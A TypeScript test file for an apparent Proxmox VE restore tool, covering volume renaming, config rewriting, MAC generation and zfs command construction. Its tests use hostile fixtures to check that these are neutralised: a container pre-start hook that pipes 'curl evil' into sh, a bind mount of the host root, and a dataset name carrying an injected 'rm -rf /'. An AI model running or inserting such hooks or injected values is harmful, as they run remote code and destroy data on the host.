import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { subvolProperties, waitForZvolsArgv } from '../../../src/restore/argv.ts';
import {
  addUnused,
  generateMac,
  macPrefix,
  nextDiskName,
  ownerOf,
  referencedVolnames,
  renameVolname,
  replaceVolume,
  rewriteConfig,
  volumeOf,
} from '../../../src/restore/config.ts';
import { mountArgv, renameArgv } from '../../../src/zfs/argv.ts';

const VM = `#web server
agent: 1
boot: order=scsi0;ide2;net0
efidisk0: local-zfs:vm-100-disk-2,efitype=4m,size=1M
ide2: local:iso/debian.iso,media=cdrom,size=628M
name: web
net0: virtio=BC:24:11:5A:10:00,bridge=vmbr0,firewall=1
net1: e1000=BC:24:11:5A:10:01,bridge=vmbr1
lock: fstrim
parent: before-upgrade
scsi0: local-zfs:vm-100-disk-0,iothread=1,size=64M
scsi1: file=local-zfs:vm-100-disk-1,backup=0,size=64M
sata0: local:100/vm-100-disk-7.qcow2,size=1M
unused0: local-zfs:vm-100-disk-4
vmgenid: 0e5c8a1e-6b1f-4a34-8f2a-000000000100

[before-upgrade]
scsi0: local-zfs:vm-100-disk-0,size=64M
scsi3: local-zfs:vm-100-disk-9,size=8G
snaptime: 1700000000
`;

const CT = `arch: amd64
hostname: ct-files
mp0: local-zfs:subvol-103-disk-1,mp=/srv/data,backup=1,size=32M
mp1: local-zfs:subvol-103-disk-2,mp=/srv/scratch,size=32M
mp2: /mnt/bind,mp=/mnt/bind
net0: name=eth0,bridge=vmbr0,hwaddr=BC:24:11:5A:10:03,ip=dhcp,type=veth
rootfs: acl=0,size=64M,volume=local-zfs:subvol-103-disk-0
lxc.apparmor.profile: unconfined
`;

describe('restore: volumes in config values', () => {
  it('finds the volume positional or named, and replaces it keeping every option in place', () => {
    assert.equal(volumeOf('qemu', 'local-zfs:vm-100-disk-0,iothread=1,size=64M'), 'local-zfs:vm-100-disk-0');
    assert.equal(volumeOf('qemu', 'file=local-zfs:vm-100-disk-1,backup=0'), 'local-zfs:vm-100-disk-1');
    assert.equal(
      volumeOf('lxc', 'acl=0,size=64M,volume=local-zfs:subvol-103-disk-0'),
      'local-zfs:subvol-103-disk-0',
    );
    assert.equal(
      replaceVolume('qemu', 'local-zfs:vm-100-disk-0,iothread=1,size=64M', 'tank:vm-200-disk-0'),
      'tank:vm-200-disk-0,iothread=1,size=64M',
    );
    assert.equal(
      replaceVolume(
        'lxc',
        'acl=0,size=64M,volume=local-zfs:subvol-103-disk-0',
        'local-zfs:subvol-300-disk-0',
      ),
      'acl=0,size=64M,volume=local-zfs:subvol-300-disk-0',
    );
  });

  it('knows which guest owns a volume, and renames volumes for another VMID (linked clones become full copies)', () => {
    assert.equal(ownerOf('local-zfs:vm-100-disk-0'), 100);
    assert.equal(ownerOf('local:102/vm-102-disk-0.qcow2'), 102);
    assert.equal(ownerOf('local-zfs:base-100-disk-0/vm-101-disk-0'), 101);
    assert.equal(ownerOf('local:iso/debian.iso'), null);
    assert.equal(ownerOf('/dev/sdb'), null);
    assert.equal(renameVolname('vm-100-disk-0', 200), 'vm-200-disk-0');
    assert.equal(renameVolname('subvol-103-disk-0', 200), 'subvol-200-disk-0');
    assert.equal(renameVolname('base-100-disk-1', 200), 'base-200-disk-1');
    assert.equal(renameVolname('base-100-disk-0/vm-101-disk-0', 101), 'vm-101-disk-0');
    assert.throws(() => renameVolname('iso/x.iso', 200), /not a volume name/);
  });

  it('picks the lowest free disk name, counting volumes named in any section of the config', () => {
    const taken = new Set(['vm-100-disk-0', 'vm-100-disk-2', ...referencedVolnames('qemu', VM)]);
    assert.ok(taken.has('vm-100-disk-9'), 'a volume named only by a PVE snapshot is taken too');
    assert.equal(nextDiskName('vm', 100, taken), 'vm-100-disk-3');
    assert.equal(nextDiskName('subvol', 103, new Set()), 'subvol-103-disk-0');
  });
});

describe('restore: config rewrite', () => {
  const uuid = () => '11111111-2222-3333-4444-555555555555';

  it('as a new guest: restored volumes renamed, snapshots, parent and lock gone, the old guest volumes left out', () => {
    const r = rewriteConfig({
      text: VM,
      type: 'qemu',
      fromVmid: 100,
      toVmid: 200,
      volumes: new Map([
        ['scsi0', 'local-zfs:vm-200-disk-0'],
        ['efidisk0', 'local-zfs:vm-200-disk-2'],
      ]),
      newUuid: uuid,
    });
    assert.equal(
      r.text,
      `#web server
agent: 1
boot: order=scsi0;ide2;net0
efidisk0: local-zfs:vm-200-disk-2,efitype=4m,size=1M
ide2: local:iso/debian.iso,media=cdrom,size=628M
name: web
net0: virtio=BC:24:11:5A:10:00,bridge=vmbr0,firewall=1
net1: e1000=BC:24:11:5A:10:01,bridge=vmbr1
scsi0: local-zfs:vm-200-disk-0,iothread=1,size=64M
vmgenid: 11111111-2222-3333-4444-555555555555
`,
    );
    assert.deepEqual(
      r.dropped.map((d) => d.key),
      ['scsi1', 'sata0', 'unused0'],
    );
    assert.deepEqual(r.untouched, []);
  });

  it('in place: volumes not in the backup stay (they are the guest own) and are reported', () => {
    const r = rewriteConfig({
      text: VM,
      type: 'qemu',
      fromVmid: 100,
      toVmid: 100,
      volumes: new Map([['scsi0', 'local-zfs:vm-100-disk-0']]),
      newUuid: uuid,
    });
    assert.match(r.text, /^scsi1: file=local-zfs:vm-100-disk-1,backup=0,size=64M$/m);
    assert.doesNotMatch(r.text, /parent:|lock:|\[before-upgrade\]|snaptime/);
    assert.deepEqual(
      r.untouched.map((u) => u.key),
      ['efidisk0', 'scsi1', 'sata0', 'unused0'],
    );
  });

  it('new MACs on request, for VMs and containers; bind mounts stay, raw lxc keys are left out and said', () => {
    const macs = ['02:00:00:00:00:01', '02:00:00:00:00:02'];
    const vm = rewriteConfig({
      text: VM,
      type: 'qemu',
      fromVmid: 100,
      toVmid: 200,
      volumes: new Map(),
      newMac: () => macs.shift() ?? '',
      newUuid: uuid,
    });
    assert.match(vm.text, /^net0: virtio=02:00:00:00:00:01,bridge=vmbr0,firewall=1$/m);
    assert.match(vm.text, /^net1: e1000=02:00:00:00:00:02,bridge=vmbr1$/m);
    const ct = rewriteConfig({
      text: CT,
      type: 'lxc',
      fromVmid: 103,
      toVmid: 300,
      volumes: new Map([
        ['rootfs', 'local-zfs:subvol-300-disk-0'],
        ['mp0', 'local-zfs:subvol-300-disk-1'],
      ]),
      newMac: () => 'BC:24:11:AA:BB:CC',
      newUuid: uuid,
    });
    assert.equal(
      ct.text,
      `arch: amd64
hostname: ct-files
mp0: local-zfs:subvol-300-disk-1,mp=/srv/data,backup=1,size=32M
mp2: /mnt/bind,mp=/mnt/bind
net0: name=eth0,bridge=vmbr0,hwaddr=BC:24:11:AA:BB:CC,ip=dhcp,type=veth
rootfs: acl=0,size=64M,volume=local-zfs:subvol-300-disk-0
`,
    );
    assert.deepEqual(
      ct.dropped.map((d) => d.key),
      ['mp1', 'lxc.apparmor.profile'],
    );
  });

  it('never restores silently what runs code or opens host resources on the restore host', () => {
    const hostile = `arch: amd64
hookscript: local:snippets/owned.sh
lxc.hook.pre-start: /bin/sh -c 'curl evil | sh'
lxc.mount.entry: / host none bind 0 0
rootfs: local-zfs:subvol-101-disk-0,size=8G
`;
    const ct = (keepHostKeys?: boolean) =>
      rewriteConfig({
        text: hostile,
        type: 'lxc',
        fromVmid: 101,
        toVmid: 101,
        volumes: new Map([['rootfs', 'local-zfs:subvol-101-disk-0']]),
        newUuid: uuid,
        keepHostKeys,
      });
    const safe = ct();
    assert.equal(safe.text, 'arch: amd64\nrootfs: local-zfs:subvol-101-disk-0,size=8G\n');
    assert.deepEqual(
      safe.dropped.map((d) => d.key),
      ['hookscript', 'lxc.hook.pre-start', 'lxc.mount.entry'],
    );
    assert.match(
      safe.dropped[1]?.reason ?? '',
      /"lxc.hook.pre-start: \/bin\/sh -c 'curl evil \| sh'" runs code .* --keep-host-keys/,
    );
    assert.equal(ct(true).text, hostile);
    const vm = rewriteConfig({
      text: 'args: -netdev tap,id=n,script=/tmp/x\nhookscript: local:snippets/y.pl\nname: web\n',
      type: 'qemu',
      fromVmid: 100,
      toVmid: 100,
      volumes: new Map(),
      newUuid: uuid,
    });
    assert.equal(vm.text, 'name: web\n');
    assert.deepEqual(
      vm.dropped.map((d) => d.key),
      ['args', 'hookscript'],
    );
  });

  it('MACs: the datacenter prefix, or a locally administered unicast one', () => {
    assert.equal(macPrefix(undefined), 'BC:24:11');
    assert.equal(macPrefix('keyboard: en-us\nmac_prefix: 02:aa\n'), '02:AA');
    assert.equal(generateMac('BC:24:11', new Uint8Array([1, 2, 255, 9, 9, 9])), 'BC:24:11:01:02:FF');
    const bare = generateMac('', new Uint8Array([0xff, 1, 2, 3, 4, 5]));
    assert.equal(bare, 'FE:01:02:03:04:05');
  });

  it('adds a detached volume as the next free unusedN of the current section, before the snapshots', () => {
    const r = addUnused(VM, 'local-zfs:vm-100-disk-5');
    assert.equal(r.key, 'unused1');
    const lines = r.text.split('\n');
    const at = lines.indexOf('unused1: local-zfs:vm-100-disk-5');
    assert.equal(lines[at - 1], 'vmgenid: 0e5c8a1e-6b1f-4a34-8f2a-000000000100');
    assert.equal(lines[at + 1], '');
    assert.equal(lines[at + 2], '[before-upgrade]');
    assert.equal(
      addUnused('name: x\n', 'local-zfs:vm-1-disk-0').text,
      'name: x\nunused0: local-zfs:vm-1-disk-0\n',
    );
  });
});

describe('restore: zfs command lines', () => {
  it('renames without force, sets PVE CT properties, waits for zvol links with the names as arguments', () => {
    assert.deepEqual(renameArgv('p/a', 'p/b'), ['zfs', 'rename', 'p/a', 'p/b']);
    assert.deepEqual(mountArgv('p/a'), ['zfs', 'mount', 'p/a']);
    assert.deepEqual(subvolProperties('64M'), { acltype: 'posixacl', xattr: 'sa', refquota: '64M' });
    assert.deepEqual(subvolProperties(null), { acltype: 'posixacl', xattr: 'sa' });
    const w = waitForZvolsArgv([{ target: "p/vm-1-disk-0'; rm -rf /", temp: 'p/t', aside: null }]);
    assert.deepEqual(w.slice(3), ['zbm-wait-zvols', "p/vm-1-disk-0'; rm -rf /", 'p/t', '']);
    assert.ok(!(w[2] ?? '').includes('vm-1'));
  });
});
